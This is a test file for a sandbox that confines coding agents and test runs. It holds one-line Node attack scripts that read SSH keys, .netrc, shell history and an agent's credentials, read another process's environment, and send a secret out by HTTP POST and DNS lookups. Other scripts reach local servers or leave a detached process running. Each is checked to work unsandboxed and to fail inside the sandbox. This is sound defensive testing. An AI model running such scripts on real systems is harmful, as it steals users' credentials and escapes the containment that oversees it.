// Hostile tests and agents inside a sandbox try to get out. Each attack works without the sandbox.
import { spawnSync } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type AddressInfo, type Server } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { Config } from '../../src/contract/config/config.js'
import { isEngine, type SandboxComponent } from '../../src/contract/sandbox.js'
import type { KnownName } from '../../src/contract/known-agents.js'
import type { Workspace } from '../../src/contract/workspace.js'
import { installedComponents } from '../../src/adapters/sandbox/find-component.js'
import { agentSandbox, sandboxOf } from '../../src/adapters/sandbox/run-sandbox.js'
import { runLimited } from '../../src/adapters/process/limited.js'
import { spawnGroup, type SpawnGroup } from '../../src/adapters/process/spawn-group.js'
import { processTable } from '../../src/adapters/process/table.js'
import { layout, projectKey, type Dirs } from '../../src/adapters/state-dir.js'

/** An image with a C library for Node, which exists in the engine; without it none is tried. */
const image = process.env['RATCHET_TEST_IMAGE']
const COMPONENTS = installedComponents(process.env, image).filter(
  ({ component, program }) => !isEngine(component) || spawnSync(program, ['info']).status === 0,
)
test.runIf(COMPONENTS.length === 0)('no sandbox is installed: its attacks are skipped', () => {
  expect(COMPONENTS).toEqual([])
})

// Outside of /tmp, which is empty inside.
const home = mkdtempSync(path.join(os.homedir(), '.ratchet-attack-'))
const dirs: Dirs = { state: path.join(home, 'state'), cache: path.join(home, 'cache') }
const project = path.join(home, 'project')
const other = path.join(home, 'other')
const root = path.join(dirs.state, 'workspaces', 'k', 'n', 'tree')
const env = { PATH: process.env['PATH'], HOME: home }
const workspace: Workspace = {
  project,
  root,
  cwd: root,
  branch: 'ratchet/n',
  base: 'b',
  isolation: 'clone',
}
const SECRET = 'the secret of the user'
const DAEMON = path.basename(home)
const daemons = (): number[] =>
  processTable()
    .map(({ pid }) => pid)
    .filter((pid) => commandLine(pid).includes(DAEMON) && pid !== process.pid)
function commandLine(pid: number): string {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8')
  } catch {
    return '' // it has ended
  }
}
let connections = 0
/** What was sent to the service and to the name server. */
let received = ''
const nameServer = createSocket('udp4', (packet) => {
  received += packet.toString('latin1')
})
const servers: Server[] = []
const listening = (): Promise<number> =>
  new Promise((resolve) => {
    const one = createServer((client) => {
      connections += 1
      client.on('data', (bytes) => (received += bytes.toString())).on('error', () => undefined)
      client.end()
    })
    servers.push(one)
    one.listen(0, '127.0.0.1', () => resolve((one.address() as AddressInfo).port))
  })
let [temporal, service, names] = [0, 0, 0]

beforeAll(async () => {
  for (const dir of [project, other, root, path.join(home, '.ssh'), path.join(home, '.claude')])
    mkdirSync(dir, { recursive: true })
  writeFileSync(path.join(home, '.ssh', 'id_ed25519'), SECRET)
  writeFileSync(path.join(home, '.netrc'), SECRET)
  writeFileSync(path.join(home, '.bash_history'), SECRET)
  writeFileSync(path.join(home, '.claude', '.credentials.json'), SECRET)
  writeFileSync(path.join(home, '.claude.json'), '{"theme":"dark"}')
  writeFileSync(path.join(other, 'secret.txt'), SECRET)
  writeFileSync(path.join(dirs.state, 'transcript'), SECRET)
  const registered = layout.project(dirs, projectKey(other))
  mkdirSync(path.dirname(registered), { recursive: true })
  writeFileSync(
    registered,
    JSON.stringify({ path: other, key: projectKey(other), registeredAt: 'now' }),
  )
  ;[temporal, service] = [await listening(), await listening()]
  nameServer.bind(0, '127.0.0.1')
  await once(nameServer, 'listening')
  names = nameServer.address().port
  mkdirSync(path.dirname(layout.serverRecord(dirs)), { recursive: true })
  writeFileSync(
    layout.serverRecord(dirs),
    JSON.stringify({ address: `127.0.0.1:${temporal}`, uiPort: temporal }),
  )
})
afterAll(() => {
  for (const one of servers) one.close()
  nameServer.close()
  rmSync(home, { recursive: true, force: true })
})

const config = (component: SandboxComponent | 'none', more: object = {}): Config =>
  Config.parse({ sandbox: { use: component, image, ...more } })

/** Runs a script of an attacker; returns what it printed. */
async function attack(script: string, spawn: SpawnGroup = spawnGroup): Promise<string> {
  const file = path.join(home, `output-${Math.random()}`)
  await runLimited({
    argv: [process.execPath, '-e', script],
    cwd: root,
    env: { ...env, LC_MARK: path.basename(home) },
    run: path.basename(home),
    step: 'attack',
    file,
    timeoutMs: 20_000,
    graceMs: 0,
    signal: new AbortController().signal,
    spawn,
  })
  return readFileSync(file, 'utf8')
}

const reads = (...names: string[]): string =>
  `console.log(require('fs').readFileSync(${JSON.stringify(path.join(home, ...names))}, 'utf8'))`
const marks = (dir: string): string => path.join(dir, 'mark')
const writes = (dir: string): string =>
  `require('fs').writeFileSync(${JSON.stringify(marks(dir))}, 'x')`
const connectsTo = (port: number): string =>
  `require('net').connect(${port}, '127.0.0.1').on('error', (e) => console.log(e.message)).on('close', () => process.exit()).resume()`
const asksProxyFor = (target: string): string =>
  `const p = new URL(process.env.HTTP_PROXY ?? 'http://127.0.0.1:1'); require('http').request({ host: p.hostname, port: p.port, method: 'CONNECT', path: ${JSON.stringify(target)}, headers: p.username ? { 'proxy-authorization': 'Basic ' + Buffer.from(p.username + ':' + p.password).toString('base64') } : {} }).on('connect', (r) => { console.log(r.statusCode); process.exit() }).on('response', (r) => { console.log(r.statusCode); process.exit() }).on('error', (e) => { console.log(e.message); process.exit() }).end()`

type Attack = { what: string; script: () => string; worked: (said: string) => boolean }

const saysSecret = (said: string): boolean => said.includes(SECRET)
const ATTACKS: readonly Attack[] = [
  { what: 'read a key', script: () => reads('.ssh', 'id_ed25519'), worked: saysSecret },
  { what: 'read a login', script: () => reads('.netrc'), worked: saysSecret },
  { what: 'read a history', script: () => reads('.bash_history'), worked: saysSecret },
  {
    what: "read an agent's login",
    script: () => reads('.claude', '.credentials.json'),
    worked: saysSecret,
  },
  { what: 'read another project', script: () => reads('other', 'secret.txt'), worked: saysSecret },
  { what: 'read the state', script: () => reads('state', 'transcript'), worked: saysSecret },
  {
    what: 'read it by a link in the workspace',
    script: () =>
      `const fs = require('fs'); fs.rmSync('link', { force: true }); fs.symlinkSync(${JSON.stringify(path.join(home, '.ssh'))}, 'link'); console.log(fs.readFileSync('link/id_ed25519', 'utf8'))`,
    worked: saysSecret,
  },
  {
    what: 'read the environment of another process',
    script: () => `console.log(require('fs').readFileSync('/proc/${process.pid}/environ', 'utf8'))`,
    worked: (said) => said.includes('VITEST'),
  },
  ...['state', 'project', 'other', '.claude', ''].map((name): Attack => ({
    what: `write to ${name === '' ? 'the home directory' : name}`,
    script: () => writes(path.join(home, name)),
    worked: () => existsSync(marks(path.join(home, name))),
  })),
  {
    what: 'reach the Temporal server',
    script: () => connectsTo(temporal),
    worked: () => connections > 0,
  },
  {
    what: 'reach a service of this machine',
    script: () => connectsTo(service),
    worked: () => connections > 0,
  },
  {
    what: 'send by HTTP',
    script: () =>
      `require('http').request({ port: ${service}, host: '127.0.0.1', method: 'POST' }).on('error', () => process.exit()).on('response', () => process.exit()).end(${JSON.stringify(SECRET)})`,
    worked: () => saysSecret(received),
  },
  {
    what: 'send by DNS',
    script: () =>
      `const r = new (require('dns').Resolver)({ timeout: 300, tries: 1 }); r.setServers(['127.0.0.1:${names}']); r.resolve4('thesecretoftheuser.example.com', () => process.exit())`,
    worked: () => received.includes('thesecretoftheuser'),
  },
  {
    what: 'leave a process behind',
    script: () =>
      `require('child_process').spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000) // ${DAEMON}'], { detached: true, stdio: 'ignore', env: {} }).unref()`,
    worked: () => daemons().length > 0,
  },
]

const reset = (): void => {
  connections = 0
  received = ''
  for (const dir of ['state', 'project', 'other', '.claude', ''])
    rmSync(marks(path.join(home, dir)), { force: true })
  for (const pid of daemons()) process.kill(pid, 'SIGKILL')
}

const agentIn = (component: SandboxComponent, known: KnownName): SpawnGroup =>
  agentSandbox({ dirs, env }, config(component), workspace, {
    known,
    folder: path.join(dirs.state, 'turn'),
    write: [],
    spawn: spawnGroup,
  })

describe.each(COMPONENTS)('$component', ({ component }) => {
  test.each(ATTACKS)('a hostile test cannot $what', async ({ script, worked }) => {
    reset()
    expect(worked(await attack(script())), 'it works without the sandbox').toBe(true)
    reset()
    const spawn = sandboxOf({ dirs, env }, config(component))(workspace, 'tests')
    expect(worked(await attack(script(), spawn))).toBe(false)
  })

  // Another agent than the one whose login the attacks look for.
  test.each(ATTACKS)('a hostile agent cannot $what', async ({ script, worked }) => {
    reset()
    expect(worked(await attack(script(), agentIn(component, 'codex')))).toBe(false)
  })

  // Nothing gets out of a sandbox in which nothing starts.
  test.each([
    {
      who: 'a test',
      enclosed: () => sandboxOf({ dirs, env }, config(component))(workspace, 'tests'),
    },
    { who: 'an agent', enclosed: () => agentIn(component, 'codex') },
  ])('the control: $who writes the workspace and the temporary directory', async ({ enclosed }) => {
    const spawn = enclosed()
    rmSync(path.join(root, 'made'), { force: true })
    const said = await attack(
      "const fs = require('fs'); fs.writeFileSync('made', 'x'); fs.writeFileSync(require('os').tmpdir() + '/made', 'x'); console.log('both')",
      spawn,
    )
    expect(said.trim()).toBe('both')
    expect(existsSync(path.join(root, 'made'))).toBe(true)
  })

  test('strictHome shows nothing of the home directory but what is named', async () => {
    const [shown, own] = [path.join(home, 'toolchain'), path.join(home, 'notes')]
    for (const dir of [shown, own]) {
      mkdirSync(dir, { recursive: true })
      writeFileSync(path.join(dir, 'file'), 'content')
    }
    const tries = `for (const dir of ${JSON.stringify([shown, own, project])}) { try { console.log(require('fs').readdirSync(dir).length > 0) } catch { console.log(false) } }`
    const said = async (more: object): Promise<string[]> =>
      (await attack(tries, sandboxOf({ dirs, env }, config(component, more))(workspace, 'tests')))
        .trim()
        .split('\n')
    writeFileSync(path.join(project, 'a.txt'), '')
    // A container has nothing of it anyway.
    const usual = String(!isEngine(component))
    expect(await said({})).toEqual([usual, usual, 'true'])
    expect(await said({ strictHome: true, read: ['~/toolchain'] })).toEqual([
      'true',
      'false',
      'true',
    ])
  })

  test('a named port is reached, no other host, and never the server', async () => {
    connections = 0
    const network = [`localhost:${service}`, `localhost:${temporal}`]
    const spawn = sandboxOf({ dirs, env }, config(component, { network }))(workspace, 'tests')
    expect((await attack(asksProxyFor(`localhost:${service}`), spawn)).trim()).toBe('200')
    expect(connections).toBe(1)
    for (const target of [`localhost:${temporal}`, `127.0.0.1:${temporal}`, 'example.com:443'])
      expect((await attack(asksProxyFor(target), spawn)).trim(), target).not.toBe('200')
    expect(connections).toBe(1)
  })
})

describe.each(COMPONENTS.filter(({ component }) => component === 'bwrap'))('$component', () => {
  const agent = (): SpawnGroup => agentIn('bwrap', 'claude')

  test('an agent sees a copy of its own folder, and what it writes there stays inside', async () => {
    reset()
    const own = path.join(home, '.claude')
    const script = `${reads('.claude', '.credentials.json')}; ${writes(own)}`
    expect(saysSecret(await attack(script, agent()))).toBe(true)
    expect(existsSync(marks(own))).toBe(false)
    const session = `console.log(require('fs').existsSync(${JSON.stringify(marks(own))}))`
    expect((await attack(session, agent())).trim(), 'the next turn has its session').toBe('true')
    const settings =
      "require('fs').readFileSync(process.env.CLAUDE_CONFIG_DIR + '/.claude.json', 'utf8')"
    expect(await attack(`console.log(${settings})`, agent())).toContain('dark')
  })

  test('a named port of this machine is reached without a proxy', async () => {
    connections = 0
    const network = [`localhost:${service}`]
    const spawn = sandboxOf({ dirs, env }, config('bwrap', { network }))(workspace, 'tests')
    await attack(connectsTo(service), spawn)
    expect(connections).toBe(1)
  })

  test('a command that is missing is named, as without a sandbox', async () => {
    const spawn = sandboxOf({ dirs, env }, config('bwrap'))(workspace, 'tests')
    const started = spawn?.({
      argv: ['no-such-program'],
      cwd: root,
      env,
      markers: { run: 'r', step: 's' },
      stdin: 'ignore',
      stdout: 'pipe',
    })
    await expect(started).rejects.toThrow('command not found: no-such-program')
  })
})
